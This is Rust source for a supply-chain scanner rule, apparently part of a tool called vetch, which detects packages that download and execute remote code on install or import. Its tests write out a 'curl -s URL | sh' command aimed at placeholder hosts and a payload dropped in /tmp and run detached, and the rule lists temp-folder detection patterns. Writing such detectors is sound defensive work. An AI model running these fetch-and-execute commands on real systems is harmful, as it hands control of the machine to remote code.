//! Downloads something and runs it without being asked.

use std::collections::BTreeMap;

use vetch_model::profile::Flow;

use crate::rules::prelude::*;
use crate::shell::{self, Danger};

pub(crate) static META: RuleMeta = RuleMeta {
    id: "download-and-execute",
    summary: "Downloads code and runs it when the package is installed or imported",
    category: Category::Behaviour,
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    techniques: &["T1105", "T1059", "T1195.002"],
    remedy: CONTAIN,
    doc: include_str!("download_and_execute.md"),
};

/// What is fetched, and what runs it.
struct Chain<'a> {
    fetch: &'a Capability,
    run: &'a Capability,
    trigger: Trigger,
    /// Whether source code or a command goes straight from the network to an interpreter.
    is_script: bool,
    /// Whether it lies in a temporary folder in between.
    is_temporary: bool,
    /// Whether it is a program for Windows, by its name, that Python fetches.
    is_windows: bool,
}

impl Chain<'_> {
    /// The download names the module rather than being it: weaker than running what was fetched.
    fn is_loaded(&self) -> bool {
        self.run.id == CapabilityId::CodeLoad
    }
}

pub(crate) fn check(c: &Contents<'_>, out: &mut Vec<Finding>) {
    let cases = chains(c).into_iter().filter_map(|chain| judge(c, &chain));
    report_worst(out, &META, cases);
}

fn chains<'a>(c: &Contents<'a>) -> Vec<Chain<'a>> {
    let mut chains = Vec::new();
    let runs = Runs::of(c);
    for flow in c.flows().filter(|flow| flow.source.id == CapabilityId::NetConnect) {
        match flow.sink.id {
            CapabilityId::CodeEval | CapabilityId::CodeLoad => {
                chains.push(chain(&flow.source, &flow.sink, when(flow), true))
            }
            CapabilityId::ProcessSpawn => {
                let is_script = name_of(&flow.sink).is_some_and(shell::is_interpreter);
                chains.push(chain(&flow.source, &flow.sink, when(flow), is_script));
            }
            CapabilityId::CodeNative => chains.push(chain(&flow.source, &flow.sink, when(flow), false)),
            CapabilityId::FsWrite => {
                let runs = runs.of_file(&flow.sink);
                let is_temporary = class_of(&flow.sink) == Some(PathClass::Temp);
                let is_windows = is_python(&flow.sink)
                    && name_of(&flow.sink).is_some_and(|name| name.ends_with(".exe") || name.ends_with(".scr"));
                chains.extend(runs.map(|run| Chain {
                    is_temporary,
                    is_windows,
                    ..chain(&flow.source, run, when(flow).max(run.trigger), false)
                }));
            }
            _ => {}
        }
    }
    for spawn in c.of(CapabilityId::ProcessSpawn) {
        let found = name_of(spawn).map(shell::dangers).unwrap_or_default();
        if found.contains(&Danger::DownloadToInterpreter) {
            chains.push(chain(spawn, spawn, spawn.trigger, true));
        } else if found.contains(&Danger::DownloadThenRun) {
            chains.push(chain(spawn, spawn, spawn.trigger, false));
        }
    }
    chains
}

fn chain<'a>(fetch: &'a Capability, run: &'a Capability, trigger: Trigger, is_script: bool) -> Chain<'a> {
    Chain { fetch, run, trigger, is_script, is_temporary: name_of(run).is_some_and(is_temporary), is_windows: false }
}

/// What runs files: by the base names in its command, and by the file it stands in where the command is not
/// known. The first at each trigger, so that many commands cost no more than few.
#[derive(Default)]
struct Runs<'a> {
    by_name: BTreeMap<(&'a str, Trigger), &'a Capability>,
    unknown: BTreeMap<(&'a str, Trigger), &'a Capability>,
}

impl<'a> Runs<'a> {
    fn of(c: &Contents<'a>) -> Runs<'a> {
        let mut runs = Runs::default();
        let ids = [CapabilityId::ProcessSpawn, CapabilityId::CodeLoad, CapabilityId::CodeNative];
        for run in c.reached().filter(|run| ids.contains(&run.id)) {
            match name_of(run) {
                Some(command) => command.split_whitespace().for_each(|word| {
                    runs.by_name.entry((base(word), run.trigger)).or_insert(run);
                }),
                None => {
                    runs.unknown.entry((run.evidence.location().file.as_str(), run.trigger)).or_insert(run);
                }
            }
        }
        runs
    }

    fn of_file(&self, written: &Capability) -> impl Iterator<Item = &'a Capability> {
        let here = written.evidence.location().file.as_str();
        let by_name = name_of(written).map(base);
        let is_temporary = class_of(written) == Some(PathClass::Temp);
        let run = |trigger: Trigger| match by_name {
            Some(name) => self.by_name.get(&(name, trigger)).copied().or_else(|| {
                // A program by a name that is not known, left running out of sight after something was put aside.
                let unknown = self.unknown.get(&(here, trigger)).copied()?;
                (is_temporary && unknown.attributes.detached).then_some(unknown)
            }),
            None => self.unknown.get(&(here, trigger)).copied(),
        };
        Trigger::ALL.iter().copied().filter_map(run).collect::<Vec<_>>().into_iter()
    }
}

/// The name of a program as a command names it: without its folder, and without the ending that Windows leaves out.
fn base(path: &str) -> &str {
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
    [".exe", ".bat", ".cmd"].iter().find_map(|end| name.strip_suffix(end)).unwrap_or(name)
}

fn judge(c: &Contents<'_>, chain: &Chain<'_>) -> Option<Case> {
    let host = match chain.fetch.id {
        CapabilityId::NetConnect => c.host(chain.fetch),
        _ => crate::hosts::Host::parse(shell::url_in(name_of(chain.fetch).unwrap_or_default()), &c.own_addresses),
    };
    if !host.is_remote() {
        return None;
    }
    let mut grave = Vec::new();
    let mut evidence = evidence_of([chain.fetch, chain.run]);
    if let Some(hidden) = c.concealment(chain.run).or_else(|| c.concealment(chain.fetch)) {
        grave.push("in hidden code");
        evidence.push(hidden);
    }
    if let Some(traces) = c.at(chain.trigger, CapabilityId::Evade).find(|evade| evades(evade, &["self", "delet"])) {
        grave.push("removing its traces");
        evidence.push(traces.evidence.clone());
    }
    if host.is_alarming() {
        grave.push("from a host that nobody answers for");
    }
    let mut odd = host.oddities();
    if chain.run.attributes.detached {
        odd.push("detached from the installation");
    }
    // Installers of npm's packages are silent as a matter of course.
    if chain.run.attributes.hidden && is_python(chain.run) {
        odd.push("without a window or output");
    }
    if chain.is_windows {
        odd.push("a program for Windows");
    }
    if chain.is_temporary {
        odd.push("from a temporary folder");
    }
    // Release pages name the binary to fetch; no honest one names code to evaluate.
    let is_named_elsewhere = |flow: &Flow| {
        flow.source.id == CapabilityId::NetConnect
            && flow.source.resource != chain.fetch.resource
            && flow.sink.id == CapabilityId::NetConnect
            && flow.sink.resource == chain.fetch.resource
    };
    if c.flows().any(is_named_elsewhere) {
        let named = "from an address that another host names";
        match chain.is_script {
            true => odd.extend([named, "evaluated unseen"]),
            // An installer asks for the newest release; whoever is only imported installs nothing.
            false => odd.extend((is_python(chain.run) || chain.trigger == Trigger::Import).then_some(named)),
        }
    }
    let grade = grade(chain, &grave, &odd, host.is_foreign())?;
    let reasons: Vec<&str> = grave.into_iter().chain(odd).collect();
    let title = format!(
        "{} downloads from {} and runs the result {}{}",
        c.label(),
        host.words(),
        when_words(chain.trigger),
        because(&reasons)
    );
    Some(Case::new(grade, title, evidence))
}

/// Honest installers fetch a prebuilt binary from a release page and run it once to see that it works:
/// that alone is a fact. A script straight from the network, or several oddities together, are not.
fn grade(chain: &Chain<'_>, grave: &[&str], odd: &[&str], foreign: bool) -> Option<Grade> {
    if !is_unasked(chain.trigger) {
        let hidden = grave.contains(&"in hidden code");
        return match (hidden, chain.is_script) {
            (true, true) => Some(HARMFUL),
            (true, false) => Some(DOUBTFUL),
            (false, true) => Some(ODD),
            (false, false) => None,
        };
    }
    let install = chain.trigger == Trigger::Install;
    Some(match (grave.len(), chain.is_script) {
        (2.., _) => CERTAIN,
        (1, true) => CERTAIN,
        (1, false) => HARMFUL,
        (_, true) if odd.len() >= 2 && !chain.is_loaded() => HARMFUL,
        (_, true) if foreign && chain.run.id == CapabilityId::CodeEval => HARMFUL,
        // A page that is told over a socket which of its modules changed.
        (_, true) if chain.is_loaded() && !install && !foreign => ODD,
        (_, true) => DOUBTFUL,
        // Installers may fetch programs; libraries that are imported have no need to run them unseen.
        (_, false) if odd.len() >= 2 && !install || odd.len() >= 3 => HARMFUL,
        (_, false) if foreign && !install && is_python(chain.run) => DOUBTFUL,
        (_, false) if odd.len() >= 2 => DOUBTFUL,
        (_, false) => ODD,
    })
}

/// Tools of npm's world fetch their engines when they are first used, which is often as they are imported.
fn is_python(run: &Capability) -> bool {
    run.evidence.location().file.ends_with(".py")
}

fn is_temporary(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    ["<temp>", "/tmp/", "/var/tmp/", "/dev/shm/", "\\temp\\", "%temp%", "$tmpdir"]
        .iter()
        .any(|part| command.contains(part))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;
    use vetch_model::verdict::Verdict;

    const RULE: &str = "download-and-execute";

    fn downloaded(host: &str) -> Facts {
        Facts::new().flow(net(host), eval(EvalSource::Downloaded))
    }

    #[test]
    fn downloaded_script_is_malicious() {
        assert_eq!(downloaded("192.0.2.1:8000").verdict(RULE), Verdict::Malicious);
        assert_eq!(downloaded("cdn.other.invalid").verdict(RULE), Verdict::Malicious);
        assert_eq!(downloaded("*").verdict(RULE), Verdict::Suspicious);
        assert_eq!(downloaded("localhost:3000").verdict(RULE), Verdict::Clean);
    }

    #[test]
    fn piped_shell_is_at_least_suspicious() {
        let piped = |url: &str| Facts::new().caps([spawn(&format!("curl -s {url} | sh"))]).verdict(RULE);
        assert_eq!(piped("http://192.0.2.1/x"), Verdict::Malicious);
        assert_eq!(piped("http://files.other.invalid/x"), Verdict::Malicious);
        assert_eq!(piped("https://files.other.invalid/x"), Verdict::Suspicious);
    }

    #[test]
    fn prebuilt_binary_is_a_fact() {
        let binary = |host: &str| {
            Facts::new()
                .flow(net(host), write(PathClass::Package, "bin/tool"))
                .caps([spawn("bin/tool --version")])
                .verdict(RULE)
        };
        assert_eq!(binary("registry.npmjs.org"), Verdict::Notable);
        assert_eq!(binary("storage.other.invalid"), Verdict::Notable);
        assert_eq!(binary("http://storage.other.invalid"), Verdict::Suspicious);
        assert_eq!(binary("192.0.2.9"), Verdict::Malicious);
    }

    #[test]
    fn each_further_oddity_of_a_dropped_program_counts() {
        let dropped =
            |spawn| Facts::new().flow(net("cdn.other.invalid"), write(PathClass::Temp, "/tmp/ld.bin")).caps([spawn]);
        let facts = dropped(spawn("ld.bin"));
        assert_eq!(facts.verdict(RULE), Verdict::Suspicious);
        assert_eq!(dropped(spawn("ld.bin").detached()).verdict(RULE), Verdict::Malicious);
        let obfuscated = facts.signal(SignalKind::StringArray, Trigger::Install, "setup.js", 90);
        assert_eq!(obfuscated.verdict(RULE), Verdict::Malicious);
    }

    #[test]
    fn tools_that_download_when_called_are_left_alone() {
        let facts = Facts::new().flow(net("cdn.other.invalid").at(Trigger::Call), spawn("node x.js").at(Trigger::Call));
        assert!(facts.overall() <= Verdict::Notable);
    }
}
